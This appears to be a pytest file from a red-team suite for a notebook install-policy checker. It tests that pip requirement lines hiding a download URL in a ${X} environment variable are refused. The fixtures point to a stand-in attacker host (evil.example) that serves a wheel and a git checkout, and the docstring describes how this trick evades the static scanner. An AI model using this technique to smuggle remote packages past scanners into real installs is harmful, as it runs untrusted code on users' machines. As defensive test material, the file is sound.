"""Red team 52b R52b-1: a ``${NAME}`` in a requirement line's URL or path (kernel halves and
pip controls; the static halves: src/deps/redteam52b-envpaths.spec.ts).

pip expands ``${NAME}`` (upper case) in every line of a requirements file from its process's
environment, which a cell sets beforehand (``%env X=...``, ``os.environ["X"] = ...``): then
``x @ ${X}`` is a direct URL, ``${X}/sub`` an http URL, ``-e ${X}/sub`` a VCS checkout. The
kernel expands with the real environment and refuses them (controls below). warden-scan cannot
see the kernel's environment: since fix59static a ``${NAME}`` left in an index/find-links value
is install-unreadable, and a bare ``${PKG}`` requirement is, but one left inside a requirement's
URL or path is read as a local path and the cell is clean (the static half fails today).
"""

import os

from pip._internal.req.req_file import expand_env_variables
from test_install_vectors import outcome

WHEEL = "https://evil.example/x-1.0-py3-none-any.whl"
CASES = [
    ("x @ ${X}\n", WHEEL),
    ("${X}/x-1.0-py3-none-any.whl\n", "https://evil.example"),
    ("-e ${X}/sub\n", "git+https://evil.example/x.git#egg=x&subdirectory="),
]


def test_r52b_1_control_pip_expands_the_url_from_the_environment(monkeypatch):
    monkeypatch.setitem(os.environ, "X", WHEEL)
    assert list(expand_env_variables([(1, "x @ ${X}")])) == [(1, f"x @ {WHEEL}")]


def test_r52b_1_control_the_kernel_refuses_the_expanded_lines(tmp_path, monkeypatch):
    for text, value in CASES:
        found = outcome(
            {
                "policy": {},
                "files": {"r.txt": text},
                "env": {"X": value},
                "command": "pip install -r r.txt",
            },
            tmp_path,
            monkeypatch,
        )
        assert found["rules"] and not found["runs"], (text, found)
